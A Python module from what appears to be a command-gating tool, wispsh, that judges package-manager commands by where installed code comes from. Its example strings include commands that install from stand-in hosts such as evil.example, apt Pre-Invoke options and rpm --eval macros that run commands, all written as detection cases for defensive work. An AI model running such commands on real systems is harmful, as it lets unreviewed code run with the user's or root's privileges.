"""What an install names (a registry name, a URL, a VCS address, a path; the index options that change where
it comes from), the system's package managers (apt, dnf, zypper, snap, emerge, pacman, brew, dpkg, rpm, ...), and
the helpers the package families share."""
from __future__ import annotations

from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.sources import host_of, index_is_known
from wispsh.programs.table import Grammar, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re, re
from wispsh.vocab import places

# ---------------------------------------------------------------- what an install names

_URL = lazy_re(r"^(https?|ftp|file)://|\s@\s*(https?|file)://|^[A-Za-z0-9_.-]+\s*@\s*(https?|git\+|file)")
VCS_SOURCE = lazy_re(r"^(git|hg|svn|bzr)\+|^git://|^(github|gitlab|bitbucket|gist):|\.git(#.*)?$|^git@")
SHORTHAND = lazy_re(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(#.*)?")
ARCHIVES = (".whl", ".tar.gz", ".zip", ".tgz", ".tar.bz2")
GATE_PACKAGE = lazy_re(r"^wispsh(?:$|[\[<>=!~; @])", re.I)
GITHUB_SHORTHAND = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "bunx", "pnpx"})    # read `owner/repo` as GitHub


def judge_spec(cmd, spec: str) -> None:
    """One thing to install: a registry name, a URL, a VCS address or a path. Its ids and examples are listed
    on `install_specs`, the hook most installers use; the package runners' hooks call this too."""
    tool = cmd.name
    if UNKNOWN in spec:
        cmd.does("run-code", "install.runtime", f"{tool} installs something known only at run time")
        return
    if GATE_PACKAGE.match(spec):
        cmd.does("gate", "install.gate", f"{tool} installs another wispsh: it replaces the gate")
    if _URL.search(spec) or (" @ " in spec and "://" in spec):
        cmd.does("install-foreign", "install.from-url",
                 f"{tool} installs from a URL ({spec}); its build scripts run unreviewed")
    elif VCS_SOURCE.search(spec):
        cmd.does("install-foreign", "install.from-vcs",
                 f"{tool} installs from a repository ({spec}); its build scripts run unreviewed")
    elif tool in GITHUB_SHORTHAND and SHORTHAND.fullmatch(spec) and not spec.startswith("."):
        cmd.does("install-outside", "install.from-github", f"{tool} installs {spec} straight from GitHub")
    elif tool == "brew" and spec.count("/") == 2 and not spec.startswith("homebrew/"):
        cmd.does("install-outside", "install.from-tap", f"brew installs {spec} from a third-party tap")
    elif spec.startswith(("/", "./", "../", "~", "file:")) or spec in (".", "..") or spec.endswith(ARCHIVES):
        where = cmd.place(spec[5:] if spec.startswith("file:") else spec)
        if where.cls in (places.PROJECT, places.PROJECT_ROOT):
            cmd.does("run-project", "install.project", f"{tool} installs the project's own code")
            if not spec.endswith(ARCHIVES):
                cmd.facts.builds.append(where.path)     # its setup.py / pyproject.toml backend runs
        else:
            cmd.does("install-outside", "install.from-path", f"{tool} installs code from {where.path}")
    else:
        cmd.does("install", "install.registry", f"{tool} installs from the registry")


@emits({"install.runtime": ['pip install "$PKG"'], "install.gate": ["pip install wispsh", "uv add wispsh"],
        "install.from-url": ["pip install https://example.com/pkg.tar.gz", "yarn add https://example.com/x.tgz",
                             "brew install https://example.com/x.rb"],
        "install.from-vcs": ["pip install git+https://github.com/x/y.git", "npm install github:x/y",
                             "cargo install --git https://github.com/x/y", "pip install -e git+https://x.example/y"],
        "install.from-github": ["npm install x/y"], "install.from-tap": ["brew install x/y/z"],
        "install.project": ["pip install -e .", "cargo install --path ."],
        "install.from-path": ["pip install /tmp/pkg.whl", "cargo install --path ../other", "gem install /tmp/x.gem"],
        "install.registry": ["pip install requests", "npm install lodash", "gem install rails", "pipx install black"]})
def install_specs(cmd, o) -> None:
    """The packages an install verb names: its operands, -e/--editable, --spec, --with, --from, and cargo's
    --git and --path. Each is judged by where it comes from, and so are the indexes it is told to use."""
    judge_index(cmd, o)
    # `pip install -e y`: an editable install names a directory (or a VCS URL), never a registry name
    editable = [e if _URL.search(e) or VCS_SOURCE.search(e) or e.startswith(("/", ".", "~", "file:")) or UNKNOWN in e
                else "./" + e for e in o.all("e", "editable")] if cmd.name in ("pip", "pip3", "uv") else \
        o.all("e", "editable")
    specs = list(o.operands) + editable + o.all("spec", "with", "from")
    specs += [url if url.startswith("git") else "git+" + url for url in o.all("git")]
    specs += [path if path.startswith(("/", ".", "~")) else "./" + path for path in o.all("path")]
    for spec in specs:
        judge_spec(cmd, spec)


@emits({"uninstall.gate": ["pip uninstall wispsh", "pipx uninstall wispsh", "uv remove wispsh"]})
def removes_the_gate(cmd, o) -> None:
    """Removing wispsh itself takes the gate away."""
    if any(GATE_PACKAGE.match(word) for word in o.operands):
        cmd.does("gate", "uninstall.gate", f"{cmd.name} removes wispsh: it takes the gate away")


INDEX_OPTIONS = frozenset({"i", "index-url", "extra-index-url", "f", "find-links", "trusted-host", "index",
                           "default-index", "registry", "source", "s"})


def judge_index(cmd, o) -> None:
    """The indexes an installer is told to fetch from (--index-url, --extra-index-url, --find-links,
    --trusted-host, npm's --registry, gem's --source, cargo's --index): a foreign one serves packages whose
    build scripts run unreviewed. Its ids and examples are listed on `index_options`."""
    tool = cmd.name
    for name, value in o.values:
        if name not in INDEX_OPTIONS or name == "i" and tool == "gem":     # gem's -i is --install-dir
            continue
        if UNKNOWN in value:
            cmd.does("run-code", "index.runtime", f"{tool} installs from an index known only at run time")
        elif index_is_known(value):
            cmd.does("install", "index.known", f"{tool} installs from {host_of(value) or value}")
        elif "://" not in value and (name in ("f", "find-links") or value.startswith(("/", ".", "~"))):
            where = cmd.place(value)
            if where.cls in (places.PROJECT, places.PROJECT_ROOT):
                cmd.does("run-project", "index.project", f"{tool} installs packages from the project's {value}")
            else:
                cmd.does("install-outside", "index.outside", f"{tool} installs packages from {where.path}")
        elif "://" not in value and name in ("registry", "source", "index") and "." not in value:
            # a source configured by name (pyproject, .cargo/config.toml): judged where that is written
            cmd.does("install", "index.named", f"{tool} installs from the configured source {value}")
        else:
            cmd.does("install-foreign", "index.foreign", f"{tool} installs from another index ({value}): what it "
                                                         f"serves runs unreviewed")


@emits({"index.foreign": ["pip install --index-url https://evil.example/simple requests",
                          "pip install --extra-index-url https://evil.example/simple x",
                          "npm install --registry=https://evil.example lodash",
                          "pip install --trusted-host evil.example x",
                          "gem install --source https://evil.example x",
                          "cargo install --index sparse+https://evil.example/ x"],
        "index.known": ["pip install --index-url https://download.pytorch.org/whl/cu121 torch",
                        "npm install --registry https://registry.npmjs.org/ lodash"],
        "index.runtime": ['pip install --index-url "$INDEX" x'],
        "index.project": ["pip install --no-index --find-links ./wheels x"],
        "index.outside": ["pip install --find-links /tmp/wheels x"],
        "index.named": ["cargo install --registry my-registry x"]})
def index_options(cmd, o) -> None:
    """Index options given where no package is named (before the verb, `uv sync --index …`)."""
    judge_index(cmd, o)

# ---------------------------------------------------------------- the system's package managers

APT_GRAMMAR = Grammar(values="ocSt", long_values=("option", "config-file", "target-release", "root"))
RUNS_A_COMMAND = lazy_re(r"(Pre|Post)-Invoke|Pager|Post-Invoke-Success|DPkg::", re.I)
PACKAGE_FILE = (".deb", ".rpm", ".apk", ".pkg.tar.zst")


@emits({"apt.option-runs": ["apt-get -o APT::Update::Pre-Invoke::=/tmp/x update",
                            "apt-get install -o 'Dpkg::Pre-Invoke::=id' x"]})
def apt_options(cmd, o) -> None:
    """-o Pre-Invoke/Post-Invoke/Pager options run a command, before or after the verb."""
    for option in APT_GRAMMAR.read(o.args).all("o", "option"):
        if RUNS_A_COMMAND.search(option):
            cmd.does("run-code", "apt.option-runs", f"{cmd.name} -o {option} runs a command")


@emits({"system.package-file": ["apt install ./x.deb", "dnf install https://example.com/x.rpm",
                                "apk add /tmp/x.apk"]})
def package_files(cmd, o) -> None:
    """A package file or URL is from outside the distribution: its install scripts run as root."""
    if any(a.startswith(("http://", "https://")) or a.endswith(PACKAGE_FILE) for a in o.operands):
        cmd.does("install-foreign", "system.package-file",
                 f"{cmd.name} installs a package file from outside the distribution (its scripts run as root)")


CHANGES_PACKAGES = "{cmd} changes the system's packages"
SYSTEM_READ_ONLY = ("search", "show", "list", "info", "policy", "depends", "rdepends", "madison", "showpkg", "stats",
                    "query", "provides", "whatprovides", "repolist", "check-update", "help", "deps", "uses",
                    "outdated", "leaves", "desc", "home", "config", "doctor")
SYSTEM_INSTALL = verb(grammar=APT_GRAMMAR, hook=package_files, rows=(
    Row("system.install", "system", CHANGES_PACKAGES, examples=("apt install curl", "apt-get install -y curl")),))
SYSTEM_REFRESH = verb(rows=(Row("system.refresh", "fetch", "{cmd} refreshes the package index",
                                examples=("apt-get update", "apk update")),))


def _system_packages(name: str, aliases=(), refresh=("update", "makecache", "refresh")) -> Program:
    verbs = dict.fromkeys(("install", "in", "reinstall", "localinstall", "add", "groupinstall"), SYSTEM_INSTALL)
    verbs.update(dict.fromkeys(refresh, SYSTEM_REFRESH))
    return Program(name, aliases=aliases, doc=f"{name}: the system's package manager", grammar=APT_GRAMMAR,
                   hook=apt_options, verbs=verbs, read_only=SYSTEM_READ_ONLY,
                   default=Row(f"{name}.changes", "system", CHANGES_PACKAGES, examples=(f"{name} remove x",)))


# `update` refreshes the index for apt and apk, but upgrades every package for yum, dnf, zypper and flatpak;
# `snap refresh` upgrades snaps.
APT = _system_packages("apt", aliases=("apt-get", "aptitude", "apk", "pkg", "port"), refresh=("update",))
DNF = _system_packages("dnf", aliases=("yum", "microdnf"), refresh=("makecache",))
ZYPPER = _system_packages("zypper", aliases=("flatpak",), refresh=("refresh", "ref"))
SNAP = _system_packages("snap", refresh=())
EMERGE = Program(
    "emerge", aliases=("xbps-install", "nix-env"), doc="package managers whose operands are packages",
    grammar=APT_GRAMMAR,
    rows=(Row("emerge.changes", "system", "{cmd} changes the system's packages",
              examples=("emerge x", "nix-env -i x")),),
    hook=package_files,
)


PACMAN = Program(
    "pacman", aliases=("yay", "paru"), doc="Arch Linux's package manager; the operation is an option (-S, -R, -Q, -U)",
    grammar=Grammar(values="b", long_values=("dbpath", "root", "config", "cachedir")),
    rows=(
        Row("pacman.query", "nothing", "{cmd} queries packages",
            When(flag=("Q", "query", "F", "files", "T", "deptest")),
            stop=True, examples=("pacman -Qi x", "pacman -Q")),
        Row("pacman.search", "nothing", "{cmd} searches the package index",
            When(flag=("S", "sync"), count=(("s", "i", "l", "g"), 1)), stop=True, examples=("pacman -Ss x",)),
        Row("pacman.refresh", "fetch", "{cmd} refreshes the package index",
            When(flag=("y", "refresh"), unless=("u", "sysupgrade"), operands=False), stop=True,
            examples=("pacman -Sy",)),
        Row("pacman.package-file", "install-foreign", "{cmd} -U installs a package file (its scripts run as root)",
            When(flag=("U", "upgrade")), examples=("pacman -U x.pkg.tar.zst",)),
        Row("pacman.changes", "system", "{cmd} changes the system's packages", examples=("pacman -S x", "yay -S x")),
    ),
)

BREW = Program(
    "brew", doc="Homebrew",
    verbs={
        **dict.fromkeys(("tap", "tap-new"), verb(rows=(
            Row("brew.tap", "steer", "brew tap adds another formula source", examples=("brew tap x/y",)),))),
        **dict.fromkeys(("install", "reinstall", "upgrade"), verb(hook=install_specs, rows=(
            Row("brew.install", "install", "{cmd}", examples=("brew install jq", "brew upgrade")),))),
        "services": verb(read_only=("list", "info"), default=Row(
            "brew.services", "system", "starts or stops background services", examples=("brew services start x",))),
    },
    read_only=SYSTEM_READ_ONLY,
    default=Row("brew.verb", "install", "{cmd}", examples=("brew uninstall jq", "brew update")),
)

DPKG = Program(
    "dpkg", doc="Debian's low-level package tool",
    grammar=Grammar(longs=("list", "listfiles", "search", "status", "print-avail", "get-selections", "contents",
                           "info", "version", "print-architecture", "install", "unpack", "remove", "purge")),
    rows=(
        Row("dpkg.reads", "nothing", "dpkg lists or shows packages",
            When(flag=("l", "L", "S", "s", "list", "listfiles", "search", "status", "p", "print-avail",
                       "get-selections", "c", "contents", "I", "info", "version", "print-architecture")),
            stop=True, examples=("dpkg -l", "dpkg -S /bin/ls")),
        Row("dpkg.install", "install-foreign", "{cmd} -i installs a package file (its scripts run as root)",
            When(flag=("i", "install", "unpack")), examples=("dpkg -i x.deb",)),
        Row("dpkg.changes", "system", "{cmd} changes the system's packages", examples=("dpkg -r x",)),
    ),
)


@emits({"rpm.eval-code": ["rpm --eval '%(id)'", "rpm -E '%{lua: os.execute(\"id\")}'"],
        "rpm.reads": ["rpm -qa", "rpm --eval '%{_libdir}'"], "rpm.changes": ["rpm -i x.rpm", "rpm -e x"]})
def rpm_operation(cmd, o) -> None:
    """rpm --eval expands macros (%(…) runs a shell command, %{lua:…} runs Lua); queries read; anything else
    changes the system's packages."""
    if any("%(" in text or "%{lua" in text for text in o.all("eval", "E")):
        cmd.does("run-code", "rpm.eval-code", "rpm --eval runs a shell command (%(…))")
    elif o.has("q", "query", "eval", "E", "version", "showrc"):
        cmd.fired.add("rpm.reads")
    else:
        cmd.does("system", "rpm.changes", "rpm changes the system's packages")


RPM = Program("rpm", doc="the RPM package tool", grammar=Grammar(values="E", long_values=("eval", "root", "dbpath")),
              hook=rpm_operation)

APT_KEY = Program(
    "apt-key", doc="trusts package signing keys",
    verbs=dict.fromkeys(("add", "adv"), verb(rows=(
        Row("apt-key.trusts", "steer", "trusts a package signing key", examples=("apt-key add key.gpg",)),))),
    read_only=("list", "finger", "export", "exportall"),
)
@emits({"add-apt-repository.foreign": ["add-apt-repository 'deb http://evil.example/ stable main'",
                                      "add-apt-repository https://evil.example/apt"],
        "add-apt-repository.ppa": ["add-apt-repository ppa:x/y", "add-apt-repository -y ppa:deadsnakes/ppa"]})
def apt_repository(cmd, o) -> None:
    """A PPA is a Launchpad archive; a `deb URL` line or a URL is any server's packages, installed as root."""
    for source in o.operands:
        if source.startswith("ppa:"):
            cmd.does("steer", "add-apt-repository.ppa", f"adds the package archive {source}")
        else:
            cmd.does("install-foreign", "add-apt-repository.foreign", f"adds the package repository {source}: its "
                                                                      "packages install as root")


ADD_APT_REPOSITORY = Program("add-apt-repository", doc="adds a package repository", hook=apt_repository,
                             grammar=Grammar(values="kcp", long_values=("keyserver", "component", "pocket")))
APT_MARK = Program(
    "apt-mark", doc="marks packages (held, manual, automatic)",
    read_only=("showhold", "showmanual", "showauto", "showinstall", "showremove", "showpurge"),
    default=Row("apt-mark.marks", "local-config", "marks packages", examples=("apt-mark hold x",)),
)
QUIET = tuple(Program(name, doc=f"{name}: searches or lints, changes nothing")
              for name in ("apt-cache", "hadolint", "actionlint", "cspell"))



PROGRAMS = programs(APT, DNF, ZYPPER, SNAP, EMERGE, PACMAN, BREW, DPKG, RPM, APT_KEY, ADD_APT_REPOSITORY, APT_MARK,
                    *QUIET)
